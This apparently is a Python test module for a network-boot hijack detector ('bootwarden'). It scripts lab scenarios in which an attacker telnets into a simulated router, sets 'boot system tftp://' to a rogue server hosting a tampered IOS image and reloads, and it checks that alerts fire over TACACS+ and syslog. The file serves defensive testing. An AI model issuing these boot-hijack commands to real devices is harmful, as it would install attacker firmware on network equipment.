"""Commands that are typed: by telnet through a real pty, over SSH as TACACS+ accounts for it, and logged by syslog."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

from bootwarden.lab import device, model
from bootwarden.lab.model import act
from bootwarden.lab.programs import listens, program
from bootwarden.lab.stage import Stage
from bootwarden.lab.terminal import Terminal
from bootwarden.scenarios.model import Notice

FILE = "images/ios/c2900-universalk9-mz.SPA.152-4.M3.with-something-added.bin"
"""With its command it is longer than a terminal's 80 columns."""


def module(stage: Stage, host: str, name: str, *words: object, port: int) -> None:
    """Run a module of the lab on a host, which serves at a port."""
    stage.serve(host, sys.executable, "-m", f"bootwarden.lab.{name}", *words, ready=listens("tcp", port))


def hijack(stage: Stage, editing: str, rogue: str, *, pasted: bool = False) -> None:
    """Log in by telnet, set the boot system, and reload."""
    shell = f"{sys.executable} -I -S {Path(device.__file__).resolve()} {editing}"
    module(stage, "device", "inetd", stage.address("device"), 23, program("telnetd"), "-h", "-E", shell, port=23)
    person = Terminal(stage, "attacker", 80, "telnet", stage.address("device"))
    put = person.enter if pasted else person.type
    for question, answer, how in (
        ("Username: ", "netadmin", put),
        ("Password: ", "let-me-in", person.enter),
        ("edge1#", "configure terminal", put),
        ("(config)#", f"boot system tftp://{rogue}/{FILE}", put),
        ("(config)#", "end", put),
        ("edge1#", "reload", put),
        ("[confirm]", "", put),
    ):
        person.wait(question)
        how(answer)
    person.wait("closed")
    person.close()


def typed(device: str, attacker: str, rogue: str) -> dict[str, Any]:
    """What a boot server that is typed, and a reload, must raise. One session is one transaction: no chain."""
    boot = Notice("Boot_Command", device, rogue, FILE)
    return {
        "notices": (boot, Notice("Remote_Reload", device)),
        "raises": [("BW07", 0, attacker, device), ("BW05", 3, attacker, device)],
    }


@act(
    scenario="bw30-orders-of-the-lab",
    hosts={"device": "10.0.1.31", "attacker": "10.0.6.31"},
    needs=("telnetd", "telnet"),
    **typed("10.0.1.31", "10.0.6.31", "10.0.6.131"),
)
def telnet_wrapped(stage: Stage) -> None:
    """A boot server and a reload are typed by telnet, in 80 columns, on a device that wraps long lines."""
    hijack(stage, "wrap", "10.0.6.131")


@act(
    scenario="bw30-orders-of-the-lab",
    hosts={"device": "10.0.1.32", "attacker": "10.0.6.32"},
    needs=("telnetd", "telnet"),
    **typed("10.0.1.32", "10.0.6.32", "10.0.6.132"),
)
def telnet_scrolled(stage: Stage) -> None:
    """The same on a device that moves long lines to the left."""
    hijack(stage, "scroll", "10.0.6.132")


@act(
    scenario="bw30-orders-of-the-lab",
    hosts={"device": "10.0.1.36", "attacker": "10.0.6.36"},
    needs=("telnetd", "telnet"),
    **typed("10.0.1.36", "10.0.6.36", "10.0.6.136"),
)
def telnet_pasted(stage: Stage) -> None:
    """The same, pasted: of the long line only its end is shown."""
    hijack(stage, "scroll", "10.0.6.136", pasted=True)


def accounting(stage: Stage, key: str, *commands: str) -> None:
    """Let a device account for commands that the attacker typed over SSH."""
    aaa = stage.address("aaa")
    module(stage, "aaa", "tacacs", "serve", aaa, key, port=49)
    words = ("-m", "bootwarden.lab.tacacs", "account", aaa, key, "anna", "10.0.6.33")
    # A program for each: nobody types a second command within a millisecond of the first.
    for command in commands:
        stage.run("device", sys.executable, *words, command)


@act(
    scenario="bw07-tacacs-with-key",
    hosts={"device": "10.0.1.33", "aaa": model.AAA},
    needs=("tacacs_plus",),
    notices=(
        Notice("Boot_Command", "10.0.1.33", "10.0.6.133", FILE),
        Notice("Remote_Reload", "10.0.1.33"),
        Notice("Netboot_Hijack", "10.0.1.33"),
    ),
)
def tacacs_accounting(stage: Stage) -> None:
    """What is typed over SSH goes to the TACACS+ server, obfuscated with the key that the site knows."""
    commands = ("configure terminal", f"boot system tftp://10.0.6.133/{FILE}", "reload")
    accounting(stage, model.TACACS_KEY, *commands)


@act(
    scenario="bw07-tacacs-clear-and-not-flagged",
    hosts={"device": "10.0.1.34", "aaa": "10.0.9.50"},
    needs=("tacacs_plus",),
    notices=(Notice("Boot_Command", "10.0.1.34", "10.0.6.134", FILE),),
    raises=[("BW07", 1542007450, "10.0.1.34", "10.0.9.50")],
)
def tacacs_in_clear(stage: Stage) -> None:
    """The same from a device that has no key."""
    accounting(stage, "-", "configure terminal", f"boot system tftp://10.0.6.134/{FILE}")


RELAY, COLLECTOR = "10.0.9.25", "10.0.9.26"
FORWARD = """\
module(load="imudp")
input(type="imudp" address="{address}" port="514")
action(type="omfwd" target="{target}" port="514" protocol="udp")
"""
COLLECT = """\
module(load="imudp")
input(type="imudp" address="{address}" port="514")
action(type="omfile" file="{file}")
"""
SEND = "import socket, sys; socket.socket(2, 2).sendto(sys.argv[2].encode(), (sys.argv[1], 514))"


def rsyslog(stage: Stage, host: str, settings: str) -> None:
    """Run rsyslogd, which looks up no names."""
    file = stage.file(f"{host}.conf", settings)
    words = ("-n", "-x", "-f", file, "-i", stage.folder / f"{host}.pid")
    stage.serve(host, "rsyslogd", *words, ready=listens("udp", 514))


@act(
    scenario="bw07-relayed-syslog",
    hosts={"device": "10.0.1.35", "relay": RELAY, "collector": COLLECTOR},
    needs=("rsyslogd",),
    notices=(Notice("Boot_Command", "10.0.1.35", "10.0.6.135", FILE),),
    raises=[("BW07", 7, "10.0.1.35", RELAY), ("BW07", 7, RELAY, COLLECTOR)],
)
def syslog_by_relay(stage: Stage) -> None:
    """A device logs a command that sets the boot server; rsyslog passes it on to the collector."""
    got = stage.folder / "collected.log"
    rsyslog(stage, "collector", COLLECT.format(address=COLLECTOR, file=got))
    rsyslog(stage, "relay", FORWARD.format(address=RELAY, target=COLLECTOR))
    said = f"%PARSER-5-CFGLOG_LOGGEDCMD: User:neteng  logged command:boot system tftp://10.0.6.135/{FILE}"
    stage.run("device", sys.executable, "-c", SEND, RELAY, f"<189>45: edge1: *Mar  1 00:01:02.003: {said}")
    stage.wait_for_text(got.name, FILE)
